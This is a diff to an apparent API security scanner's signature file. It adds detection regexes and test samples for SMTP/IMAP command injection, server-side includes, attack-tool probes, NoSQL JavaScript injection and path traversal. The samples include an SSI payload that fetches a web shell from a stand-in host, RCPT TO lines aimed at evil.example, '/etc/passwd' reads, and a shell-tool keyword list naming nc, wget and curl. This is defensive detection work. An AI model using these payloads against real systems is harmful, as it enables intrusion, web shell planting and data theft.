@@ -10,7 +10,7 @@ const PARAMS: InputLocation[] = ['query', 'cookie', 'json-value', 'body'];
 const r = String.raw;
 
 const SHELL_COMMANDS =
-  'cat|ls|id|whoami|uname|wget|curl|nc|ncat|netcat|bash|sh|zsh|ksh|dash|ping|nslookup|dig|powershell|pwsh|cmd|cmd\\.exe|rm|chmod|chown|python[23]?|perl|ruby|php|sleep|echo|printenv|env|ifconfig|ipconfig|net|type|dir|telnet|busybox|base64|systeminfo|tasklist|reg|whoami\\.exe|uname|hostname|passwd|crontab|kill|pkill|nohup|xargs|sudo|su';
+  'cat|ls|id|whoami|uname|wget|curl|getent|nc|ncat|netcat|bash|sh|zsh|ksh|dash|ping|nslookup|dig|powershell|pwsh|cmd|cmd\\.exe|rm|chmod|chown|python[23]?|perl|ruby|php|sleep|echo|printenv|env|ifconfig|ipconfig|net|type|dir|telnet|busybox|base64|systeminfo|tasklist|reg|whoami\\.exe|uname|hostname|passwd|crontab|kill|pkill|nohup|xargs|sudo|su';
 
 export const SIGNATURES: Signature[] = [
   {
@@ -173,7 +173,7 @@ export const SIGNATURES: Signature[] = [
     check: {
       kind: 'regex',
       prefilter: ['/', '\\', '://', '.'],
-      pattern: r`(?:^|[^\w.-])/etc/(?:passwd|shadow|group|hosts|issue|sudoers|crontab)\b|/proc/self/(?:environ|cmdline|maps|fd|status)|\b[a-z]:[/\\]+(?:windows|winnt|boot\.ini)|\bwin\.ini\b|\b(?:php|phar|zip|expect|glob|compress\.zlib)://|\bphp://(?:filter|input)|(?:^|/)\.(?:git/(?:config|head)|svn/entries|env(?:\.\w+)?$|aws/credentials|ssh/(?:id_\w+|authorized_keys)|htpasswd|htaccess|docker/config\.json)|/wp-config\.php|/web-inf/web\.xml`,
+      pattern: r`(?:^|[^\w.-])/etc/(?:passwd|shadow|group|hosts|issue|sudoers|crontab)\b|/proc/self/(?:environ|cmdline|maps|fd|status)|\b[a-z]:[/\\]+(?:windows|winnt|boot\.ini)|\bwin\.ini\b|\b(?:php|phar|zip|expect|glob|compress\.zlib)://|\bphp://(?:filter|input)|(?:^|/)\.(?:git/(?:config|head)|svn/entries|env(?:\.\w+)?$|aws/credentials|ssh/(?:id_\w+|authorized_keys)|htpasswd|htaccess|docker/config\.json)|/wp-config\.php|/web-inf/web\.xml|^\\\\[\w.:-]+\\[a-z]\$(?:\\|$)|\bntuser\.dat\b`,
     },
     attacks: [
       '/etc/passwd',
@@ -186,6 +186,7 @@ export const SIGNATURES: Signature[] = [
       { in: 'path', value: '/app/.aws/credentials' },
       { in: 'path', value: '/WEB-INF/web.xml' },
       { in: 'json-value', name: '$.file', value: '/proc/self/environ' },
+      '\\\\::1\\c$\\users\\default\\ntuser.dat',
     ],
     benign: [
       'report.pdf',
@@ -220,7 +221,7 @@ export const SIGNATURES: Signature[] = [
         '`' +
         r`]*` +
         '`' +
-        r`|\bpowershell(?:\.exe)?\s+-(?:enc|e|encodedcommand|c|command)\b|(?:^|[;&|\n]\s*)for\s+(?:/[dflr]\s+(?:[a-z]:\\\S*\s+)?)*(?:"[^"]*"\s+)?%%?[~\w@]+\s+in\s*\(|(?:^|[;&|\n]\s*)if\s+(?:/i\s+)?(?:not\s+)?(?:errorlevel\s+\d|%\w+%|exist\s+\S*[\\:.%]|defined\s+\w+\s+(?:set|echo|call|goto|\()|\S+\s*(?:==|equ|neq|lss|leq|gtr|geq)\s*\S+\s+(?:echo|cmd|call|goto|set|del|copy|\())`,
+        r`|\bpowershell(?:\.exe)?\s+-(?:enc|e|encodedcommand|c|command)\b|[;&|\n]\s*set\s+/a\s+\d|(?:^|[;&|\n]\s*)for\s+(?:/[dflr]\s+(?:[a-z]:\\\S*\s+)?)*(?:"[^"]*"\s+)?%%?[~\w@]+\s+in\s*\(|(?:^|[;&|\n]\s*)if\s+(?:/i\s+)?(?:not\s+)?(?:errorlevel\s+\d|%\w+%|exist\s+\S*[\\:.%]|defined\s+\w+\s+(?:set|echo|call|goto|\()|\S+\s*(?:==|equ|neq|lss|leq|gtr|geq)\s*\S+\s+(?:echo|cmd|call|goto|set|del|copy|\())`,
     },
     attacks: [
       '; cat /etc/passwd',
@@ -502,6 +503,105 @@ export const SIGNATURES: Signature[] = [
       { in: 'query', name: 'lang', value: 'en%0d%0a%0d%0a<html>' },
     ],
     benign: ['en-US', 'Content: normal value', 'a%20b', { in: 'path', value: '/api/v1/users/42' }],
+  },
+  {
+    id: 'MAM-SIG-CRLF-002',
+    family: 'crlf-injection',
+    title: 'Mail (SMTP/IMAP) command injection',
+    severity: 'medium',
+    owasp: 'API8:2023',
+    cwe: 93,
+    where: ['query', 'json-value', 'path', 'header', 'cookie'],
+    check: {
+      kind: 'regex',
+      prefilter: ['\n'],
+      pattern: r`\n\s*(?:rcpt to|mail from|helo|ehlo|quit|data|rset|vrfy|expn)\b|\n\s*[a-z]?\d{1,4} (?:capability|fetch|login|select|examine|list|logout|store|copy)\b`,
+    },
+    attacks: [
+      '\r\nV100 CAPABILITY\r\nV101 FETCH 4791',
+      '%0d%0aQUIT%0d%0a',
+      { in: 'json-value', name: '$.subject', value: '\nRCPT TO: test@evil.example\n' },
+    ],
+    benign: [
+      { in: 'json-value', name: '$.body', value: 'Hello,\nthe data is attached.\nRegards' },
+      'quit smoking',
+    ],
+  },
+  {
+    id: 'MAM-SIG-SSI-001',
+    family: 'ssi-injection',
+    title: 'Server-side include injection',
+    severity: 'high',
+    owasp: 'API8:2023',
+    cwe: 97,
+    where: ['query', 'json-value', 'path', 'header', 'cookie', 'body'],
+    check: {
+      kind: 'regex',
+      prefilter: ['<!--'],
+      pattern: r`<!--\s*#\s*(?:exec|include|echo|config|printenv|fsize|flastmod|set|if)\b`,
+    },
+    attacks: [
+      '<!--#exec cmd="wget http://some_host/shell.txt | rename shell.txt shell.php"-->',
+      '<!--#include virtual="/etc/passwd"-->',
+      '%3C!--%23echo%20var%3D%22DATE_LOCAL%22--%3E',
+    ],
+    benign: ['<!-- a comment -->', '<!-- #1 priority -->'],
+  },
+  {
+    id: 'MAM-SIG-SCAN-001',
+    family: 'scanner',
+    title: 'Attack tool or out-of-band interaction probe',
+    severity: 'medium',
+    owasp: 'API8:2023',
+    cwe: 200,
+    where: ['header', 'query', 'json-value', 'cookie'],
+    check: {
+      kind: 'regex',
+      pattern: r`\b(?:sqlmap|nikto|nuclei|openvas|nessus|acunetix|netsparker|wpscan|dirbuster|gobuster|feroxbuster|masscan|zgrab|nmap scripting engine|fuzz faster u fool|ffuf|wfuzz|arachni|w3af|havij|commix|xsstrike|jaeles|burp ?suite)\b|\b[\w.-]+\.(?:burpcollaborator\.net|oastify\.com|oast\.(?:me|fun|pro|live|site|online)|interact\.sh|dnslog\.cn|ceye\.io|canarytokens\.com)\b|openvas-vt|\.nasl\b`,
+    },
+    attacks: [
+      { in: 'header', name: 'user-agent', value: 'sqlmap/1.7.4#stable (https://sqlmap.org)' },
+      {
+        in: 'header',
+        name: 'user-agent',
+        value: 'Nuclei - Open-source project (github.com/projectdiscovery/nuclei)',
+      },
+      { in: 'header', name: 'user-agent', value: 'Fuzz Faster U Fool v2.0.0' },
+      { in: 'header', name: 'user-agent', value: 'Mozilla/5.0 [en] (X11, U; OpenVAS-VT 22.4.1)' },
+      { in: 'header', name: 'referer', value: 'http://x1y2z3.burpcollaborator.net/' },
+      { in: 'query', name: 'url', value: 'https://abc123.oast.me/a' },
+    ],
+    benign: [
+      {
+        in: 'header',
+        name: 'user-agent',
+        value: 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Chrome/126.0 Safari/537.36',
+      },
+      { in: 'header', name: 'user-agent', value: 'okhttp/4.12.0' },
+      { in: 'query', name: 'q', value: 'how do I scan documents with my phone' },
+    ],
+  },
+  {
+    id: 'MAM-SIG-NOSQL-002',
+    family: 'nosql-injection',
+    title: 'NoSQL server-side JavaScript injection',
+    severity: 'high',
+    owasp: 'API8:2023',
+    cwe: 943,
+    where: ['query', 'json-value', 'path', 'cookie', 'body'],
+    check: {
+      kind: 'regex',
+      prefilter: ['db.', 'date', 'this.', 'return', 'sleep'],
+      pattern: r`\bdb\.[\w$]+\.(?:insert|find|findone|update|remove|drop|aggregate|deletemany|updatemany|mapreduce)\s*\(|\bnew\s+date\s*\(\s*\)\s*;\s*do\s*\{|while\s*\(\s*\w+\s*-\s*\w+\s*<\s*\d+|\bthis\.\w+\s*(?:==|!=|\.match\s*\()|['"]\s*;\s*return\s+(?:true|1|this)\b|;\s*sleep\s*\(\s*\d+\s*\)`,
+    },
+    attacks: [
+      'db.injection.insert({success:1});',
+      '0;var date=new Date(); do{curDate = new Date();}while(curDate-date<10000)',
+      "'; return true; var x='",
+      'this.password.match(/^a/)',
+      '1; sleep(5000)',
+    ],
+    benign: ['Update the db. Find it later.', 'new date() for the meeting', 'return policy: 30 days'],
   },
   {
     id: 'MAM-SIG-GQL-001',
